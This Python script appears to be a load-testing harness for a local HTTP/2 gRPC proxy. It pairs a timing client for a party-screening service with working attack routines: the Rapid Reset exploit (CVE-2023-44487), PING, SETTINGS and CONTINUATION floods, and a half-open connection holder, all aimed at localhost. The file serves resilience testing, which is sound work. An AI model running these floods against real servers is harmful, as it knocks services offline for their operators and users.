#!/usr/bin/env python3
"""HTTP/2 by hand: a client that screens parties and takes the time, and what abusers send.

    http2.py ATTACK --port P --ca ca.pem --address 127.0.0.2 --seconds 2 [--connections N]

An attack runs from its own address and prints what it got through, as JSON. Python standard library only, so that no
library stands between the test and what goes over the wire.
"""

import argparse
import json
import os
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
SCREEN_PARTY = "/cordon.v1.ScreeningService/ScreenParty"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name, value):
    """A literal that enters no table; both shorter than 127 bytes."""
    name, value = name.encode(), value.encode()
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(token=None, path=SCREEN_PARTY):
    fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
              ("content-type", "application/grpc"), ("te", "trailers")]
    if token:
        fields.append(("authorization", "Bearer " + token))
    return b"".join(header(name, value) for name, value in fields)


def party(name):
    """ScreenPartyRequest{party: {name}} with the prefix gRPC gives a message."""
    inner = b"\x0a" + bytes([len(name)]) + name.encode()
    message = b"\x0a" + bytes([len(inner)]) + inner
    return struct.pack(">BI", 0, len(message)) + message


def connect(port, ca, address=None, timeout=10):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection(("127.0.0.1", port), timeout, (address, 0) if address else None)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return context.wrap_socket(plain, server_hostname="localhost")


class Client:
    """One connection of an order system: calls one after another."""

    def __init__(self, port, ca, token):
        self.token, self.stream, self.buffer = token, 1, b""
        self.wire = connect(port, ca)
        room = 2**31 - 1
        self.wire.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, room)) +
                          frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", room - 65535)))

    def close(self):
        self.wire.close()

    def _take(self, count):
        while len(self.buffer) < count:
            more = self.wire.recv(65536)
            if not more:
                raise ConnectionError("closed by the proxy")
            self.buffer += more
        taken, self.buffer = self.buffer[:count], self.buffer[count:]
        return taken

    def screen(self, name):
        """Seconds the answer took. An answer has a message; an error of gRPC has trailers only."""
        start = time.perf_counter()
        stream, self.stream = self.stream, self.stream + 2
        self.wire.sendall(frame(HEADERS, END_HEADERS, stream, call_headers(self.token)) +
                          frame(DATA, END_STREAM, stream, party(name)))
        answered = False
        while True:
            head = self._take(9)
            length, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
            on, payload = int.from_bytes(head[5:], "big") & 0x7FFFFFFF, self._take(length)
            if kind == SETTINGS and not flags & ACK:
                self.wire.sendall(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY:
                raise ConnectionError("the proxy said GOAWAY")
            elif on == stream and kind == RST_STREAM:
                raise ConnectionError(f"stream reset, code {int.from_bytes(payload, 'big')}")
            elif on == stream:
                answered = answered or (kind == DATA and length > 5)
                if kind in (HEADERS, DATA) and flags & END_STREAM:
                    if not answered:
                        raise ConnectionError("the call failed")
                    return time.perf_counter() - start


class Flood:
    """Pushes bytes over one connection after another for a while; reads what comes without looking at it."""

    def __init__(self, options, opening=b""):
        self.options, self.until = options, time.monotonic() + options.seconds
        self.opening = PREFACE + frame(SETTINGS, 0, 0) + opening
        self.connections = self.refused = self.sent = 0

    def push(self, pieces):
        """`pieces` makes the bytes to send on a new connection, piece by piece, until it is ended from there."""
        while time.monotonic() < self.until:
            try:
                wire = connect(self.options.port, self.options.ca, self.options.address, 2)
            except OSError:
                self.refused += 1
                time.sleep(0.01)
                continue
            self.connections += 1
            try:
                wire.settimeout(0.5)
                wire.sendall(self.opening)
                for piece, count in pieces():
                    wire.sendall(piece)
                    self.sent += count
                    if select.select([wire], [], [], 0)[0] and not wire.recv(1 << 16):
                        break
                    if time.monotonic() > self.until:
                        break
            except OSError:  # also a time-out: they do not read on, as they should
                pass
            wire.close()

    def told(self):
        return {"connections": self.connections, "refused": self.refused, "frames": self.sent}


def rapid_reset(options):
    """CVE-2023-44487: opens calls and takes each back at once."""
    def pieces():
        stream = 1
        while stream < 2**30:
            batch = []
            for _ in range(100):
                batch.append(frame(HEADERS, END_HEADERS, stream, call_headers()) +
                             frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                stream += 2
            yield b"".join(batch), 200
    flood = Flood(options)
    flood.push(pieces)
    return flood.told()


def same_again(piece, count):
    def pieces():
        while True:
            yield piece, count
    return pieces


def ping_flood(options):
    flood = Flood(options)
    flood.push(same_again(frame(PING, 0, 0, b"12345678") * 200, 200))
    return flood.told()


def settings_flood(options):
    flood = Flood(options)
    flood.push(same_again(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70000) * 20) * 100, 100))
    return flood.told()


def continuation_flood(options):
    """A block of headers that never ends."""
    flood = Flood(options, frame(HEADERS, 0, 1, call_headers()))
    flood.push(same_again(frame(CONTINUATION, 0, 1, header("x-filler", "y" * 100) * 8) * 20, 20))
    return flood.told()


def half_open(options):
    """Connections that say nothing (even numbers) or stop in the middle of the TLS greeting, held until the end."""
    held, until = [], time.monotonic() + options.seconds
    greeting = bytes.fromhex("16030100c8010000c40303")
    for number in range(options.connections):
        wire = socket.socket()
        wire.setblocking(False)  # what the proxy does not take waits, and the next one is opened
        wire.bind((f"127.0.{2 + number // options.each % 200}.{1 + number // options.each // 200}", 0))
        wire.connect_ex(("127.0.0.1", options.port))
        held.append(wire)
        if number % 100 == 99:
            time.sleep(0.01)
    taken = 0
    for number, wire in enumerate(held):
        try:
            wire.getpeername()
            taken += 1
            if number % 2:
                wire.send(greeting)
        except OSError:  # not taken, or closed at once
            pass
    time.sleep(max(0.0, until - time.monotonic()))
    open_still = 0
    for wire in held:
        wire.setblocking(False)
        try:
            wire.getpeername()
            open_still += wire.recv(100) != b""
        except BlockingIOError:
            open_still += 1
        except OSError:
            pass
        wire.close()
    return {"tried": len(held), "connections": taken, "open_at_the_end": open_still}


ATTACKS = {attack.__name__: attack for attack in (rapid_reset, ping_flood, settings_flood, continuation_flood, half_open)}


if __name__ == "__main__":
    PARSER = argparse.ArgumentParser()
    PARSER.add_argument("attack", choices=ATTACKS)
    PARSER.add_argument("--port", type=int, required=True)
    PARSER.add_argument("--ca", required=True)
    PARSER.add_argument("--address", default="127.0.0.2", help="where the attack comes from")
    PARSER.add_argument("--seconds", type=float, default=2)
    PARSER.add_argument("--connections", type=int, default=500, help="of half_open")
    PARSER.add_argument("--each", type=int, default=10**9, help="connections of half_open from one address")
    OPTIONS = PARSER.parse_args()
    os.nice(19)  # the attacker's machine is another one
    print(json.dumps(ATTACKS[OPTIONS.attack](OPTIONS)))
